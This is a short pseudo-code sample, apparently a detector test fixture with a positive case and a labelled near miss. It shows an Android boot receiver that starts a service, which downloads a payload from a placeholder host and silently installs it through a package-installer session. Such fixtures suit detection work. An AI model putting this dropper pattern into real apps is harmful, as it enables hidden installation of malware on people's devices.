permissions("INTERNET", "REQUEST_INSTALL_PACKAGES", "RECEIVE_BOOT_COMPLETED")

@receiver(actions=["android.intent.action.BOOT_COMPLETED"])
class Start(BroadcastReceiver):
    def onReceive(self, context, intent):
        context.startService(Intent(context, Work))

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        content = array(byte, 4096)
        URL("https://example.org/a").openStream().read(content)
        installer = self.getPackageManager().getPackageInstaller()
        place = installer.openSession(installer.createSession(PackageInstaller_SessionParams(1)))
        place.openWrite("a", 0, 0).write(content)
        place.commit(PendingIntent.getBroadcast(self, 0, Intent(self, Start), 0).getIntentSender())
        return 1

# near miss: keeps what it fetched as a file, and gives back an installation that was begun before
@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        content = array(byte, 4096)
        URL("https://example.org/a").openStream().read(content)
        installer = self.getPackageManager().getPackageInstaller()
        place = installer.openSession(installer.createSession(PackageInstaller_SessionParams(1)))
        self.openFileOutput("a", 0).write(content)
        place.commit(PendingIntent.getBroadcast(self, 0, Intent(self, Start), 0).getIntentSender())
        return 1
